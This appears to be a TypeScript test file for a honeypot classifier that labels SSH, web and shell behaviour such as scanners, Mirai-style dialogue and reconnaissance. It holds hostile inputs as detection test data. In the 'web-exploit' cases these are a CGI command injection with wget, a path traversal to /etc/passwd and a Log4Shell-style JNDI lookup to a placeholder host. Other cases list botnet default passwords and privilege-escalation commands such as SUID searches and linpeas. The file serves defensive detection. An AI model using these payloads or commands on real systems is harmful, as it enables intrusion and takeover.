/** Cases for signs at doors, and in the first words of a visit: what each must see, and what only looks like it. */
import {
  builtin,
  type Cases,
  client,
  login,
  ran,
  requested,
  wrote,
} from './observations.test-kit.ts'

export const DOORS: Cases = new Map([
  [
    'scanner-client',
    { is: [[...client('SSH-2.0-ZGrab ZGrab SSH Survey')]], isNot: [[...client('SSH-2.0-Go')]] },
  ],
  [
    'automation-client',
    { is: [[...client('SSH-2.0-Go')]], isNot: [[...client('SSH-2.0-OpenSSH_9.2p1')]] },
  ],
  [
    'lying-client',
    {
      is: [[...client('SSH-2.0-OpenSSH_8.9p1', ['hmac-sha2-256', 'hmac-sha1'])]],
      isNot: [
        [...client('SSH-2.0-OpenSSH_8.9p1', ['umac-64-etm@openssh.com', 'hmac-sha2-256'])],
        [...client('SSH-2.0-Go', ['hmac-sha2-256'])],
      ],
    },
  ],
  [
    'wrong-protocol',
    { is: [[{ type: 'tcp.first-bytes', guess: 'rdp', bytes: new Uint8Array(3) }]] },
  ],
  [
    'web-scanner',
    {
      is: [[requested('/.env')], [requested('/', 'zgrab/0.x')]],
      isNot: [[requested('/index.html')]],
    },
  ],
  [
    'web-exploit',
    {
      is: [
        [requested('/cgi-bin/x?a=;wget+http')],
        [requested('/cgi-bin/.%2e/.%2e/etc/passwd')],
        [requested('/', '$' + '{jndi:ldap://192.0.2.1/a}')],
      ],
      isNot: [[requested('/search?q=shell')]],
    },
  ],
  ['device-password', { is: [[login('root', 'xc3511')]], isNot: [[login('root', 'Tr0ub4dor')]] }],
  [
    'bot-password',
    { is: [[login('345gs5662d34', '345gs5662d34')]], isNot: [[login('root', '345')]] },
  ],
  [
    'mirai-dialogue',
    {
      is: [[builtin('enable'), ran('system'), ran('shell'), ran('sh')]],
      isNot: [
        [ran('sh'), ran('sh'), ran('sh')],
        [ran('sh'), builtin('enable'), ran('sh x')],
      ],
    },
  ],
  [
    'busybox-token',
    {
      is: [[ran('/bin/busybox ECCHI')], [ran('busybox CORONA')]],
      isNot: [[ran('busybox wget')], [ran('busybox')]],
    },
  ],
  [
    'writable-hunt',
    {
      is: [[wrote('/.n'), wrote('/tmp/.n'), wrote('/dev/shm/.n')]],
      isNot: [
        [wrote('/tmp/.n'), wrote('/tmp/.n'), wrote('/tmp/.n')],
        [wrote('/a'), wrote('/tmp/a'), wrote('/b/a')],
      ],
    },
  ],
  [
    'probe-word',
    { is: [[builtin(String.raw`echo -e '\x67\x61\x79'`)]], isNot: [[builtin('echo gay')]] },
  ],
  [
    'honeypot-probe',
    {
      is: [[ran('cat /proc/1/cgroup')], [ran('dmidecode -t 1')]],
      isNot: [[ran('cat /proc/loadavg')]],
    },
  ],
  [
    'mount-probe',
    {
      is: [[ran('/bin/busybox cat /proc/mounts')], [ran('dd bs=52 count=1 if=/bin/echo')]],
      isNot: [[ran('cat /proc/mounts')]],
    },
  ],
  [
    'reconnaissance',
    {
      is: [
        [ran('uname -a'), ran('id'), ran('w'), ran('ps x'), ran('ip a'), ran('cat /etc/passwd')],
      ],
      isNot: [[ran('uname -a'), ran('uname -m'), ran('id'), ran('w'), ran('ps x'), ran('ps ax')]],
    },
  ],
  [
    'privilege-search',
    {
      is: [[ran('find / -perm -4000 -type f')], [ran('getcap -r /')], [ran('./linpeas.sh')]],
      isNot: [[ran('find /etc -name x')]],
    },
  ],
  ['became-root', { is: [[{ type: 'act.root', uid: 1000, by: 'sudo' }]] }],
  [
    'forwarding',
    {
      is: [
        [
          {
            type: 'forward.request',
            host: 'mail.example',
            port: 25,
            originHost: '',
            originPort: 1,
          },
        ],
      ],
      isNot: [
        [{ type: 'forward.request', host: '127.0.0.1', port: 5432, originHost: '', originPort: 1 }],
      ],
    },
  ],
  [
    'password-list',
    {
      is: [Array.from({ length: 6 }, (_, n) => login('root', `p${n}`))],
      isNot: [Array.from({ length: 5 }, (_, n) => login('root', `p${n}`))],
    },
  ],
  [
    'knocking',
    {
      is: [Array.from({ length: 8 }, () => ({ type: 'session.closed', tookMs: 1 }) as const)],
      isNot: [[{ type: 'session.closed', tookMs: 1 }]],
    },
  ],
])
